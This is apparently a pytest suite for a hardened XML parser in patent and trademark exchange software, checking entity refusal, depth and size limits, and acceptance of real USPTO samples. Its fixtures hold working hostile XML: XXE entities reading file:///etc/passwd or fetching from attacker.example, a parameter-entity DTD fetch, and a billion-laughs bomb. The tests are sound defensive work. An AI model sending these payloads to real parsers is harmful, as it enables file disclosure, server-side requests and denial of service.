"""Hostile XML is refused with a clear message before anything is built from it."""

from __future__ import annotations

from pathlib import Path

import pytest

from ipoffice.core.errors import UserError
from ipoffice.exchange.safe_xml import XmlLimits, check_declarations, parse_xml, read_limited, tree_depth

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<r>&xxe;</r>"""

XXE_NET = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>
<r>&xxe;</r>"""

PARAM = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]>
<r/>"""

LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<lolz>&lol9;</lolz>"""

NDATA_OK = b"""<?xml version="1.0"?>
<!DOCTYPE PATDOC SYSTEM "ST32-US-Grant-025xml.dtd" [
<!ENTITY US1-D00000.TIF SYSTEM "US1-D00000.TIF" NDATA TIF>
]>
<PATDOC><B110>1</B110></PATDOC>"""


def _code(exc: pytest.ExceptionInfo[UserError]) -> str:
    return exc.value.code


@pytest.mark.parametrize("doc", [XXE_FILE, XXE_NET, LAUGHS, PARAM])
def test_entity_declarations_are_refused(doc: bytes) -> None:
    with pytest.raises(UserError) as exc:
        parse_xml(doc)
    assert _code(exc) == "exchange.xml.entity"
    assert "entity" in exc.value.message("en").lower()
    assert "thực thể" in exc.value.message("vi")


def test_xxe_kind_is_named() -> None:
    with pytest.raises(UserError) as exc:
        check_declarations(XXE_FILE)
    assert exc.value.params["name"] == "xxe"
    assert "XXE" in exc.value.params["kind"]
    with pytest.raises(UserError) as exc2:
        check_declarations(LAUGHS)
    assert exc2.value.params["kind"] == "internal entity"


def test_unparsed_image_entities_of_real_uspto_documents_are_accepted() -> None:
    root = parse_xml(NDATA_OK)
    assert root.tag == "PATDOC"
    assert root.findtext("B110") == "1"


def test_no_file_is_read_through_an_undeclared_entity() -> None:
    # an entity reference without declaration is an error, never a file read
    with pytest.raises(UserError) as exc:
        parse_xml(b"<r>&passwd;</r>")
    assert _code(exc) == "exchange.xml.malformed"


def test_external_dtd_is_not_fetched() -> None:
    doc = b'<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r>ok</r>'
    assert parse_xml(doc).text == "ok"


def test_depth_limit() -> None:
    doc = b"<a>" * 150 + b"x" + b"</a>" * 150
    with pytest.raises(UserError) as exc:
        parse_xml(doc)
    assert _code(exc) == "exchange.xml.too_deep"
    assert exc.value.params["depth"] == 150
    assert parse_xml(doc, XmlLimits(max_depth=200)) is not None


def test_very_deep_nesting_stops_in_the_parser() -> None:
    doc = b"<a>" * 100_000 + b"</a>" * 100_000
    with pytest.raises(UserError) as exc:
        parse_xml(doc)
    assert _code(exc) in ("exchange.xml.too_deep", "exchange.xml.malformed")


def test_tree_depth() -> None:
    assert tree_depth(parse_xml(b"<a><b><c/></b><d/></a>")) == 3


def test_oversized_bytes_are_refused_before_parsing() -> None:
    with pytest.raises(UserError) as exc:
        parse_xml(b"<r>" + b"x" * 2000 + b"</r>", XmlLimits(max_bytes=1000))
    assert _code(exc) == "exchange.xml.too_large"


def test_multi_gigabyte_file_is_refused_without_reading(tmp_path: Path) -> None:
    big = tmp_path / "huge.xml"
    with big.open("wb") as fh:
        fh.write(b"<r>")
        fh.truncate(3 * 1024**3)  # sparse: 3 GiB on paper, nothing on disk
    with pytest.raises(UserError) as exc:
        parse_xml(big)
    assert _code(exc) == "exchange.xml.too_large"
    assert exc.value.params["size"] == 3 * 1024**3


def test_oversized_stream_reads_at_most_limit_plus_one(tmp_path: Path) -> None:
    class Counting:
        def __init__(self) -> None:
            self.asked: list[int] = []

        def read(self, n: int) -> bytes:
            self.asked.append(n)
            return b"x" * n

    stream = Counting()
    with pytest.raises(UserError):
        read_limited(stream, 100)  # type: ignore[arg-type]
    assert stream.asked == [101]


@pytest.mark.parametrize(
    "doc, code",
    [
        (b"", "exchange.xml.empty"),
        (b"<r><unclosed></r>", "exchange.xml.malformed"),
        ("<r/>".encode("utf-16"), "exchange.xml.encoding"),
    ],
)
def test_bad_documents(doc: bytes, code: str) -> None:
    with pytest.raises(UserError) as exc:
        parse_xml(doc)
    assert _code(exc) == code


def test_every_real_sample_parses(shared_data: Path) -> None:
    std = shared_data / "standards"
    files = sorted((std / "uspto-xml" / "samples").glob("*/*.xml"))
    files += sorted((std / "wipo-st96-st36").glob("st*_ex*/*.[xX][mM][lL]"))
    files += sorted((shared_data / "trademarks" / "uspto-tsdr-xml").glob("*.xml"))
    assert len(files) > 50
    for f in files:
        assert parse_xml(f) is not None, f
